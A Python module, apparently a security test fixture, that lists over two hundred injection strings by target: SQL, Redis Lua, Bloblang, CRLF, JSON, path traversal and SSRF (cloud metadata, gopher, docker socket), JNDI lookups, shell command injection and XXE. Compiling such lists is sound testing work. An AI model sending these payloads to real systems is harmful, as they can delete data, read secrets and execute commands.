"""Strings that have opened doors elsewhere: two hundred, by what they aim at, and where a request has room for them."""

from __future__ import annotations

from typing import Final

_SQL = [
    "' OR '1'='1", "' OR 1=1 --", '" OR ""="', "'; DROP TABLE ledger; --", "1; DELETE FROM api_keys",
    "' UNION SELECT null --", "admin'--", "') OR ('1'='1", "1' AND SLEEP(5)--", "'; COPY ledger TO PROGRAM 'id'; --",
    "\\'; SELECT pg_sleep(5); --", "' || (SELECT version()) || '", "1 OR 1=1", "'/**/OR/**/1=1", "%27%20OR%201=1",
    "$$; DROP ROLE penstock_api; $$", "'; NOTIFY penstock_jobs, 'x'; --",
    "' AND 1=CAST((SELECT key FROM api_keys) AS int)--", "x' AND email IS NULL; --", "`id`", "acme' --", "0x27 OR 1",
    "'; ATTACH DATABASE 'x' AS y; --", "' OR rowid IS NOT NULL --", "%' OR '%'='", "_%_", "'\"`",
]  # fmt: skip
_LUA = [
    "redis.call('FLUSHALL')", "'] = nil; redis.call('DEL', KEYS[1]) --", "]]; return 1 --[[", "os.execute('id')",
    "\\0", "{q0}:acme:counters", "*3\\r\\n$3\\r\\nSET", "${loadstring('x')()}", "%d%%s",
    "' .. redis.status_reply('x') .. '", "--[[", "]]", "KEYS[1]", "ARGV[1]", "_G", "nil", "math.huge", "1e999",
    "cjson.null", "0/0",
]  # fmt: skip
_BLOBLANG = [
    '${! env("PENSTOCK_PEPPER") }', '${! json() }', '${! file("/etc/passwd") }', "${PENSTOCK_PEPPER}",
    "root = deleted()", 'meta authorization = "x"', '"; root = this', "}} ${!", "${! @organisation }", "$organisation",
    "@key", "this.reserve", 'throw("x")', "refused 200 a b c 0 d", "import \"x\"", "map x { root = 1 }",
    "${! uuid_v4() }", "${{ x }}", "{{7*7}}", "#{7*7}",
]  # fmt: skip
_LINES = [
    "a\r\nset-cookie: x=1", "a\nset-cookie: x=1", "a\rset-cookie: x", "%0d%0aset-cookie:%20x", "\\r\\nx: y",
    "a\r\n\r\nHTTP/1.1 200 OK", "a\r\n x", "a\r\n\tx", "\u560a\u560dset-cookie: x", "a\u2028b", "a\u2029b", "a\x0bb",
    "a\x0cb", "a\x85b", "%E5%98%8A%E5%98%8Dx: y", "\r\n", "\n\n", "a\r\ncontent-length: 0\r\n\r\n",
    "data: x\n\ndata: y", "event: x\nid: 1",
]  # fmt: skip
_JSON = [
    '"', "\\", '","organisation":"globex', '"}],"x":[{"', "{}", "[]", "null", "true", "-1", "1e400", "NaN",
    '{"$ne":null}', '{"__proto__":{"x":1}}', "__proto__", "constructor", "\\u0000", "\\ud800", '{"a":' * 30, "[" * 60,
    "9" * 100, "'{'", "/*", "//",
]  # fmt: skip
_PATHS = [
    "../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "....//....//", "%2e%2e%2f", "..%252f", "..%c0%af",
    "file:///etc/passwd", "http://169.254.169.254/latest", "//evil.test", "https://evil.test", "\\\\evil\\x", "./.",
    "..", "~root", "/proc/self/environ", "C:\\", "a/b/../../c", "%00", "x%00.json", ";x", "?x=1", "#x",
    "http://localhost:6379", "gopher://127.0.0.1:6379/_FLUSHALL", "jar:x!", "php://input", "ldap://x",
    "data:text/html,x", "unix:/var/run/docker.sock",
]  # fmt: skip
_UNICODE = [
    "\x00", "a\x00b", "\ufeff", "\u202eabc", "\u200b", "\u200d", "A\u0301" * 20, "\U0001f468\u200d\U0001f469",
    "\uffff", "\ufffe", "\ue000", "\U000e0041", "\u0130", "\u1e9e", "\u03c2", "\uff07 OR 1=1", "\ufe64script\ufe65",
    "ps\u212a", "acme\u200b", "\u0430cme", "a\u0336" * 30, "\x1b[2J", "\x1b]0;x\x07", "\x7f", "\x80", "\x9b", "\u061c",
    "\u2066", "\ud7ff", "\U0010ffff",
]  # fmt: skip
_FORMATS = [
    "%s%s%s%n", "%x" * 20, "{0}", "{}", "{0.__class__}", "{key.macs}", "%(x)s", "${jndi:ldap://x}", "$(id)", "`id`",
    "; id", "| id", "&& id", "<script>alert(1)</script>", "<!ENTITY x SYSTEM 'file:///x'>", "<?xml version='1.0'?>",
    "*", "()", "-1", "0", "a" * 300, "a" * 5_000, " ", "\t", "--help", "-c", "@x", "=1+1", "+cmd|'x'!A0", "undefined",
    "None", "!!python/object:x", "&a *a",
]  # fmt: skip

STRINGS: Final = tuple(dict.fromkeys([*_SQL, *_LUA, *_BLOBLANG, *_LINES, *_JSON, *_PATHS, *_UNICODE, *_FORMATS]))
"""More than two hundred, each once."""

HEADERS: Final = (
    "authorization", "content-type", "content-encoding", "transfer-encoding", "prefer", "idempotency-key",
    "x-request-id", "traceparent", "tracestate", "accept", "accept-encoding", "cookie", "host", "origin", "referer",
    "user-agent", "range", "expect", "x-forwarded-for", "forwarded", "x-http-method-override", "if-match",
    "if-none-match", "last-event-id", "connection", "upgrade",
)  # fmt: skip
